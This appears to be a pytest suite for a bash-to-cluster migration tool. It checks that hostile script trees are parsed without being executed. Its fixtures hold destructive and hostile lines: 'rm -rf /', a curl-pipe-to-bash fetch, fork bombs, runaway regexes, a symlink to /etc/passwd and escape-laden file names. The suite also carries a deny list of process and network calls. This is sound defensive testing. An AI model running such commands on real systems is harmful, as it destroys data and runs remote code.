"""Hostile and broken trees: nothing is executed, reading is bounded, and the report says so."""

from __future__ import annotations

import errno
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pacefab.errors import PacefabError, UsageError
from pacefab.legacy.bash.syntax import Script, parse
from pacefab.legacy.migrate import migrate, migrate_tree
from pacefab.legacy.model import Fate, Migration
from pacefab.legacy.source import MOST_FILES, SourceFile, Tree

ROOT = Path(__file__).resolve().parents[2]
CREATE = "pcs resource create memcached systemd:memcached --clone interleave=true\n"
# In a process that may start nothing, connect nowhere and write nothing, a tree is migrated.
GUARDED = """
import sys
from pathlib import Path
from pacefab.legacy.migrate import migrate
import pacefab.cli.inventory, encodings.latin_1, encodings.gb18030
forbidden = ("subprocess", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn",
             "socket.connect", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "shutil")
def guard(event, arguments):
    writes = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
    if event.startswith(forbidden) or writes:
        print("FORBIDDEN", event, arguments)
        sys.exit(9)
sys.addaudithook(guard)
done = migrate(Path(sys.argv[1]))
print(done.summary["translated"])
"""


def migrated(folder: Path, **scripts: str | bytes) -> Migration:
    for name, text in scripts.items():
        data = text if isinstance(text, bytes) else text.encode()
        (folder / f"{name}.sh").write_bytes(b"#!/bin/bash\n" + data)
    begun = time.monotonic()
    done = migrate(folder)
    assert time.monotonic() - begun < 45
    return done


def reported(done: Migration, fate: Fate) -> str:
    return "\n".join(f"{one.place} {one.text} {one.reason}" for one in done.entries
                     if one.fate is fate)  # fmt: skip


def test_nothing_is_executed(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    text = (
        f"rm -rf / --no-preserve-root\nrm -rf {tmp_path}/*\ntouch {canary}\n"
        f"x=$(touch {canary}; curl http://192.0.2.1/x | bash)\n`touch {canary}`\n"
        f"eval 'touch {canary}'\nssh localhost 'touch {canary}'\necho boo > {canary}\n"
        f"python3 -c \"open('{canary}', 'w')\"\nawk 'BEGIN{{system(\"touch {canary}\")}}'\n"
        f"sed 's/x/touch canary/e' {canary}\nfind / -exec touch {canary} \\;\n"
        f"{CREATE}pcs resource create $x systemd:foo\n"
    )
    (tmp_path / "evil.sh").write_text(text)
    argv = [sys.executable, "-c", GUARDED, str(tmp_path)]
    ran = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60, cwd=ROOT)
    assert (ran.returncode, ran.stdout.strip()) == (0, "1"), ran.stdout + ran.stderr
    assert not canary.exists()
    assert (tmp_path / "evil.sh").exists()


@pytest.mark.parametrize(
    "text",
    [
        "while true; do :; done",
        "until false; do sleep 1; done",
        "for ((;;)); do x=1; done",
        "for ((i = 0; i < 10; i--)); do x=$i; done",
        "while :; do while :; do while :; do x=$((x + 1)); done; done; done",
    ],
)
def test_an_endless_loop_ends_and_is_reported(tmp_path: Path, text: str) -> None:
    done = migrated(tmp_path, a_loop=text + "\n", b_next=CREATE)
    assert "memcached: systemd:memcached, cloned" in reported(done, Fate.TRANSLATED)
    problem = reported(done, Fate.UNTRANSLATED) + reported(done, Fate.LEFT_OUT)
    assert "did not end after 10000 rounds" in problem or "not read to its end" in problem


def test_a_loop_of_ten_thousand_rounds_is_read(tmp_path: Path) -> None:
    text = "n=0\nfor ((i = 0; i < 9999; i++)); do n=$((n + 1)); done\n"
    done = migrated(tmp_path, loop=text + "pcs property set migration-limit=$n\n")
    assert "migration-limit: 9999" in done.inventory


@pytest.mark.parametrize(
    "text",
    [
        "x=aaaaaaaaaa\nwhile true; do x=$x$x; done\n",
        "f() { f; }\nf\n",
        "bash $0\n. ./bomb.sh\n",
        ":(){ :|:& };:\n",
        "echo {1..99999999}\n",
        "for i in $(seq 1 999999999); do pcs resource cleanup; done\n",
        "for ((i = 0; i < 9999; i++)); do pcs resource create r$i ocf:heartbeat:Dummy; done\n",
        "x=$(( 9 ** 999999999 ))\n" * 3,
        "printf '%0999999999d' 1\n",
        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a+)+$b'\n" * 5,
        "x=" + "$(echo " * 300 + ")" * 300 + "\n",
        "(" * 2000 + "\n",
        "if true; then\n" * 500,
        'x="' + "${x:-" * 300 + "}" * 300 + '"\n',
        "((" + "(" * 3000 + "1" + ")" * 3000 + "))\n",
        "(" * 3000 + "pcs resource create a systemd:a" + ")" * 3000 + "\n",
        "if pcs status; then\n" * 3000 + "pcs status\n" + "fi\n" * 3000,
        "a=(" + "pcs " * 100_000 + ")\n",
        "awk '{while (1) print}' <<< x\n",
        "awk 'BEGIN{" + "(" * 2000 + "}' <<< x\n",
    ],
    ids=range(20),
)
def test_a_bomb_does_not_go_off(tmp_path: Path, text: str) -> None:
    done = migrated(tmp_path, bomb=text, next=CREATE)
    assert "memcached: systemd:memcached, cloned" in reported(done, Fate.TRANSLATED)


@pytest.mark.parametrize("wrapper", ["sudo", "env A=1", "exec", "xargs", "runuser -u x --"])
@pytest.mark.parametrize("count", [4_000, 60_000])
def test_wrappers_within_wrappers_end(tmp_path: Path, wrapper: str, count: int) -> None:
    done = migrated(tmp_path, bomb=f"{wrapper} " * count + "pcs status\n", next=CREATE)
    assert "memcached: systemd:memcached, cloned" in reported(done, Fate.TRANSLATED)
    assert "bomb.sh:2 " in reported(done, Fate.UNTRANSLATED)


def test_wrappers_within_wrappers_take_no_memory(tmp_path: Path) -> None:
    (tmp_path / "bomb.sh").write_text("#!/bin/bash\n" + "sudo " * 100_000 + "pcs status\n")
    text = (
        "import re, sys, pathlib; from pacefab.legacy.migrate import migrate\n"
        "migrate(pathlib.Path(sys.argv[1]))\n"
        # Not ru_maxrss, which a process takes over from the one that started it.
        "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[1])\n"
    )
    argv = [sys.executable, "-c", text, str(tmp_path)]
    ran = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60, cwd=ROOT)
    assert int(ran.stdout) < 200 * 1024  # KiB


@pytest.mark.parametrize(
    "pattern",
    ["(a+)+$", "(a|aa)+$", "(a?){30}b", "a?" * 20 + "b", ".*.*.*.*.*.*=", "a*a*a*a*a*a*b",
     "[^=]*=[^=]*=[^=]*=x", "(x+x+)+y", "(a{1,200}){1,200}b", "((a|b)a)*c", "(a*)*b", "(.*a){20}",
     "a{1000000}", "(a|b|ab)*c", "([^,]*,)*x"],
)  # fmt: skip
def test_a_pattern_does_not_run_away(tmp_path: Path, pattern: str) -> None:
    line = "a" * 2500
    text = (
        f"x={line}\necho $x | grep -E '{pattern}'\necho $x | sed -E 's/{pattern}/y/'\n"
        f"re='{pattern}'; [[ $x =~ $re ]]\nawk '/{pattern}/' <<< $x\n"
        "case $x in *a*a*a*a*a*a*a*a*b) ;; esac\necho ${x//+(a|aa)b/c}\n"
    )
    begun = time.process_time()
    done = migrated(tmp_path, patterns=text + CREATE)
    assert time.process_time() - begun < 10
    assert "memcached: systemd:memcached, cloned" in reported(done, Fate.TRANSLATED)


def test_a_script_that_is_cut_short_says_which_lines_are_missing(tmp_path: Path) -> None:
    text = "f() { f; }\nf\npcs resource create late ocf:heartbeat:Dummy\n"
    problem = reported(migrated(tmp_path, deep=text), Fate.UNTRANSLATED)
    assert "deep.sh deep.sh not read to its end: nested more than 40 levels deep" in problem
    assert "deep.sh:4 pcs resource create late ocf:heartbeat:Dummy not reached" in problem


def test_large_and_binary_files_links_and_pipes_are_reported(tmp_path: Path) -> None:
    (tmp_path / "large.sh").write_bytes(b"#!/bin/bash\n" + b"pcs status\n" * 500_000)
    (tmp_path / "image.img").write_bytes(b"\x00\x01" * 1000)
    (tmp_path / "leak.sh").symlink_to("/etc/passwd")
    os.mkfifo(tmp_path / "pipe.sh")
    done = migrated(tmp_path, fine=CREATE)
    problem = reported(done, Fate.UNTRANSLATED)
    assert "large.sh large.sh not read: 5500012 bytes, more than 1000000" in problem
    assert "leak.sh leak.sh not read: a link that leads out of the folder" in problem
    assert "pipe.sh pipe.sh not read: not a regular file" in problem
    assert "image.img image.img not read: binary" in reported(done, Fate.LEFT_OUT)
    assert "root:" not in done.inventory


def test_what_cannot_be_entered_is_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "tree").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "more.sh").write_text(CREATE)
    (tmp_path / "tree" / "linked").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "tree" / "round.sh").symlink_to("about.sh")
    (tmp_path / "tree" / "about.sh").symlink_to("round.sh")
    (tmp_path / "tree" / "same").symlink_to(".")
    (tmp_path / "tree" / "closed").mkdir()
    entered = os.scandir

    def refused(path: str) -> object:
        if path.endswith("closed"):
            raise PermissionError(errno.EACCES, "Permission denied", path)
        return entered(path)

    monkeypatch.setattr(os, "scandir", refused)
    done = migrated(tmp_path / "tree", fine=CREATE)
    problem = reported(done, Fate.UNTRANSLATED)
    assert "linked/ linked/ not read: a link that leads out of the folder" in problem
    assert "round.sh round.sh not read: Too many levels of symbolic links" in problem
    assert "closed/ closed/ not read: Permission denied" in problem
    assert "same" not in problem


def test_names_that_cannot_be_written_are_reported_in_letters(tmp_path: Path) -> None:
    name = os.fsdecode(b"a\xff\nservices: {}\x1b[31m.sh")
    (tmp_path / name).write_text(f"#!/bin/bash\n{CREATE}")
    done = migrated(tmp_path)
    assert r"a\xff\nservices: {}\x1b[31m.sh:2" in reported(done, Fate.TRANSLATED)
    assert r"# a\xff\nservices: {}\x1b[31m.sh:2" in done.inventory
    done.inventory.encode()


def test_the_end_of_a_long_line_is_accounted_for(tmp_path: Path) -> None:
    long = "y" * 5000
    (tmp_path / "program.py").write_text(f"x = '{long}'; system('pcs resource create a Dummy')\n")
    play = f"- shell: echo {long}; pcs resource create b ocf:heartbeat:Dummy\n"
    (tmp_path / "play.yml").write_text(play)
    (tmp_path / "many.py").write_text("'" + "pcs " * 50_000 + "pcs resource create c Dummy'\n")
    done = migrated(tmp_path, late=f"exit 0\necho {long}; pcs resource create c Dummy\n")
    problem = reported(done, Fate.UNTRANSLATED)
    assert "program.py:1" in problem
    assert "many.py:1" in problem
    assert "play.yml:1 pcs resource create b" in reported(done, Fate.TRANSLATED)
    assert "late.sh:3" in reported(done, Fate.LEFT_OUT)


def test_variables_of_make_do_not_grow_without_end(tmp_path: Path) -> None:
    doubled = "".join(f"A{n + 1} = $(A{n})$(A{n})\n" for n in range(60))
    recipe = "all:\n\t$(A60) resource create a Dummy\n\t$(A0) resource create b systemd:b\n"
    (tmp_path / "Makefile").write_text(f"A0 = pcs\n{doubled}{recipe}")
    done = migrated(tmp_path, fine=CREATE)
    assert "b: systemd:b" in reported(done, Fate.TRANSLATED)


def test_scripts_are_read_before_what_is_for_people(tmp_path: Path) -> None:
    for number in range(MOST_FILES + 5):
        (tmp_path / f"a{number}.txt").write_text("a text\n")
    done = migrated(tmp_path, last=CREATE)
    assert "last.sh:2" in reported(done, Fate.TRANSLATED)
    assert "not read: the tree has more than 500 files" in reported(done, Fate.UNTRANSLATED)


def test_windows_line_ends_and_chinese_comments_are_read(tmp_path: Path) -> None:
    comment = "# 虚拟地址, 数据库\n".encode("gbk")
    done = migrated(tmp_path, gbk=comment + CREATE.replace("\n", "\r\n").encode())
    assert "memcached: systemd:memcached, cloned" in reported(done, Fate.TRANSLATED)
    assert "read as GBK, Windows line endings" in reported(done, Fate.DOUBTFUL)


def test_bash_that_cannot_be_parsed_is_reported(tmp_path: Path) -> None:
    text = CREATE + "if [ x ; then\n)) ((\npcs resource create other systemd:other\n"
    done = migrated(tmp_path, broken=text)
    every = "\n".join(f"{one.place}" for one in done.entries)
    assert "broken.sh:5" in every


@pytest.mark.parametrize("make", [lambda _: None, Path.touch])
def test_what_is_no_folder_is_reported(tmp_path: Path, make: object) -> None:
    assert callable(make)
    make(tmp_path / "x")
    with pytest.raises(UsageError) as caught:
        migrate(tmp_path / "x")
    assert caught.value.seen == "it is not a folder"


def test_a_folder_without_scripts_is_reported(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("pcs status\n")
    with pytest.raises(UsageError) as caught:
        migrate(tmp_path)
    seen = "there is no bash script in it, and no cluster command but in documentation"
    assert caught.value.seen == seen


pieces = st.sampled_from(
    ["pcs ", "resource ", "create ", "delete ", "constraint ", "order ", "then ", "colocation ",
     "add ", "with ", "location ", "rule ", "prefers ", "property ", "set ", "--node ", "stonith ",
     "op ", "meta ", "--clone ", "--master ", "group ", "update ", "x=1 ", "A ", "B ", "$x", "${x}",
     "${x[@]}", "${x##*/}", "${x:1:2}", "$(", ")", "`", '"', "'", "\\", "\n", ";", "|", "&&", "||",
     "if ", "then ", "else ", "fi\n", "for x in ", "do ", "done\n", "while ", "case x in ", "x) ",
     ";;", "esac\n", "[ ", " ]", "[[ ", " ]]", "((", "))", "$((", "<<EOF\n", "\nEOF\n", "<<< ",
     "> f ", "< f ", "ssh h ", "bash ", "-c ", "awk '{print $1}' ", "sed s/a/b/ ", "cut -d: -f1 ",
     "function f { ", "}\n", "{ ", "f ", "x=(", "a b", "*", "?", "{1..3}", "eval ", "read x ",
     "local x ", "let x=", "-f f ", "cluster ", "cib ", "cib-push ", "enable ", "# ", "é", "\t"]
)  # fmt: skip
texts = st.lists(pieces, max_size=40).map("".join) | st.text(max_size=200)


@settings(deadline=None, max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(texts, texts)
def test_any_text_gives_a_report_or_an_error_of_ours(first: str, second: str) -> None:
    files = {"a.sh": SourceFile("a.sh", first), "v.ini": SourceFile("v.ini", second),
             "b.sh": SourceFile("b.sh", second)}  # fmt: skip
    try:
        done = migrate_tree(Tree(files), "folder", "cluster")
    except PacefabError:
        return
    assert done.inventory.startswith("# yaml-language-server")


def test_the_grammar_sees_no_character_that_its_scanner_cannot_take() -> None:
    """isalpha() of a character of a higher plane crashed the whole program, now and then."""
    source = "echo 部署 🚀{x 𨄠\n".encode()
    script, root = parse(Script("a.sh", source))
    assert root.text is not None
    assert root.text.isascii()
    assert [script.text(word) for word in root.children[0].children] == [
        "echo", "部署", "🚀{x", "𨄠"
    ]  # fmt: skip
